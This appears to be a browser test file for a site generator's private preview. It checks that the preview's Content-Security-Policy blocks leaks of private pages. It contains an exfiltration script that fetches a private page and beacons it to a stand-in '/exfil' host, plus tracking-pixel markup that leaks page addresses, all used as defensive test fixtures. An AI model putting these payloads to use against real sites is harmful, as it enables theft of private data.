"""Red team 4, J1: a note's ``<script src>`` embed from another host must not run
with the preview's origin (where it could fetch every private page with the key
cookie and send it away): the preview's Content-Security-Policy keeps scripts,
connections, frames and forms to its own origin. Red team 5, K4/K5: images,
media and frames too, so a theme's pixel (whose address carries the private
page it is on) or a note's image with ``referrerpolicy`` reaches no other host.
Driven in Debian's chromium."""

from __future__ import annotations

import contextlib
import http.server
import os
import threading
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from test_serve import (
    CANARY_TITLE,
    PRIVATE_REFLECTION,
    fetch,
    make_site,
    open_in,
    serving,
    wait_until,
)

from ivsite.preview import http as preview_http
from ivsite.validate import note as validate

REPO = Path(__file__).resolve().parent.parent

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not os.access("/usr/bin/chromium", os.X_OK),
                       reason="needs Debian's /usr/bin/chromium"),
]

PRIVATE = "/reflections/2026-07-05-salary-reality-check/"
GIST = ("fetch(%r).then(r=>r.text()).then(t=>navigator.sendBeacon("
        "'http://127.0.0.1:{port}/exfil', t));document.title='third party ran';")


@contextlib.contextmanager
def third_party() -> Iterator[tuple[int, list[str]]]:
    """Another host (another port of 127.0.0.1): it serves gist.js and keeps what
    is sent to /exfil."""
    received: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            body = (GIST % PRIVATE).replace("{port}", str(self.server.server_port)).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            n = int(self.headers.get("Content-Length") or 0)
            received.append(self.rfile.read(n).decode("utf-8", "replace"))
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port, received
    finally:
        server.shutdown()
        server.server_close()


def embed_page(root: Path, port: int) -> None:
    (root / "content/pages/embed.md").write_text(
        "---\ntitle: A snippet I liked\nvisibility: private\n---\nHere is the gist:\n\n"
        f'<script src="http://127.0.0.1:{port}/gist.js"></script>\n', "utf-8")


def visit(page: Any, tmp_path: Path) -> tuple[str, list[str]]:
    """Open the embed page in the private preview; the page's title and what the
    other host received."""
    root = make_site(tmp_path)
    with third_party() as (port, received), serving(root) as srv:
        embed_page(root, port)
        assert srv.wait_idle(settle=0.5)
        open_in(page, srv, "embed/")
        page.wait_for_load_state("networkidle")
        with contextlib.suppress(AssertionError):
            wait_until(lambda: bool(received), timeout=3.0)
        return page.title(), received


def test_the_preview_sends_its_policy_on_every_answer(tmp_path: Path) -> None:
    with serving(make_site(tmp_path)) as srv:
        for path in ("/", PRIVATE, "/style.css", "/__ivsite/reload.js", "/no-such/"):
            _, _, headers = fetch(srv, path)
            csp = headers.get("content-security-policy", "")
            assert "script-src 'self'" in csp and "connect-src 'self'" in csp, (path, csp)
            assert "base-uri 'none'" in csp and "form-action 'self'" in csp


def test_a_third_party_script_does_not_run_in_the_preview(tmp_path: Path, page: Any) -> None:
    title, received = visit(page, tmp_path)
    assert title != "third party ran"
    assert received == []


def test_without_the_policy_the_script_sends_a_private_page_away(
        tmp_path: Path, page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    headers = dict(preview_http.SECURITY_HEADERS)
    del headers["Content-Security-Policy"]
    monkeypatch.setattr(preview_http, "SECURITY_HEADERS", headers)
    title, received = visit(page, tmp_path)
    assert title == "third party ran"
    assert any(CANARY_TITLE in r for r in received), received


PIXELS = """
<img src="http://HOST/pixel?p={{ page.url|urlencode }}&t={{ head_title|urlencode }}" alt="">
<iframe src="http://HOST/frame?t={{ head_title|urlencode }}"></iframe>
<video src="http://HOST/video" poster="http://HOST/poster" autoplay muted></video>
<audio src="http://HOST/audio" autoplay muted></audio>
<picture><source srcset="http://HOST/srcset"><img src="http://HOST/picture" alt=""></picture>
<div style="background-image: url(http://HOST/background)">.</div>
<svg width="1" height="1"><image href="http://HOST/svg-image"/></svg>
<link rel="icon" href="http://HOST/icon">
</body>"""
"""What a theme may add to every page: a counting pixel the ``<noscript>`` way,
with the page in its address, and the other ways a page loads from another host."""


@contextlib.contextmanager
def counter() -> Iterator[tuple[str, list[str]]]:
    """Another host (another port of 127.0.0.1) that keeps the address of every
    request made to it."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            seen.append(urllib.parse.unquote_plus(self.path))
            body = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_port}", seen
    finally:
        server.shutdown()
        server.server_close()


def counting_site(tmp_path: Path, host: str) -> Path:
    """The example site with a theme that counts its pages at ``host``, and a private
    note whose image asks to send its page's address along."""
    root = make_site(tmp_path)
    templates = root / "themes/stats/templates"
    templates.mkdir(parents=True)
    base = (REPO / "themes/default/templates/base.html").read_text("utf-8")
    (templates / "base.html").write_text(
        base.replace("</body>", PIXELS.replace("HOST", host), 1), "utf-8")
    toml = (root / "site.toml").read_text("utf-8")
    (root / "site.toml").write_text(toml.replace('theme = "default"', 'theme = "stats"'), "utf-8")
    note = root / PRIVATE_REFLECTION
    note.write_text(note.read_text("utf-8") + f'\n<img src="http://{host}/badge.gif" '
                    'referrerpolicy="unsafe-url" alt="">\n', "utf-8")
    return root


def referrer_check_off(monkeypatch: pytest.MonkeyPatch) -> None:
    """The filter refuses the note's ``referrerpolicy`` in every note (red team 5,
    K2: tests/test_leaks_script_urls.py); here the preview's policy is tested alone."""
    monkeypatch.setattr(validate, "referrer_policies", lambda *args: False)


def opened(page: Any, srv: Any, path: str, theme_file: Path) -> None:
    """Open ``path``; made with the counting theme (the pixel is in the page)."""
    open_in(page, srv, path)
    page.wait_for_load_state("networkidle")
    assert "/pixel?p=" in page.content() and theme_file.is_file()


@pytest.mark.parametrize("audience", ["private", "mentor", "public"])
def test_a_theme_or_note_reaches_no_other_host_in_the_preview(
        tmp_path: Path, page: Any, audience: str, monkeypatch: pytest.MonkeyPatch) -> None:
    referrer_check_off(monkeypatch)
    with counter() as (host, seen):
        root = counting_site(tmp_path, host)
        with serving(root, audience=audience) as srv:
            path = PRIVATE.lstrip("/") if audience == "private" else ""
            opened(page, srv, path, root / "themes/stats/templates/base.html")
            page.wait_for_timeout(300)  # anything late
        assert seen == []


def test_without_the_policy_a_theme_sends_a_private_page_away(
        tmp_path: Path, page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """The protection off (images, media and frames from anywhere, as before)."""
    referrer_check_off(monkeypatch)
    monkeypatch.setattr(preview_http, "CSP", preview_http.CSP.replace(
        "img-src 'self'", "img-src *").replace("media-src 'self'", "media-src *"))
    headers = dict(preview_http.SECURITY_HEADERS)
    headers["Content-Security-Policy"] = preview_http.CSP
    monkeypatch.setattr(preview_http, "SECURITY_HEADERS", headers)
    with counter() as (host, seen):
        root = counting_site(tmp_path, host)
        with serving(root) as srv:
            opened(page, srv, PRIVATE.lstrip("/"), root / "themes/stats/templates/base.html")
            wait_until(lambda: any(CANARY_TITLE in s for s in seen), timeout=5.0)
            wait_until(lambda: any(s.startswith("/badge.gif") for s in seen), timeout=5.0)
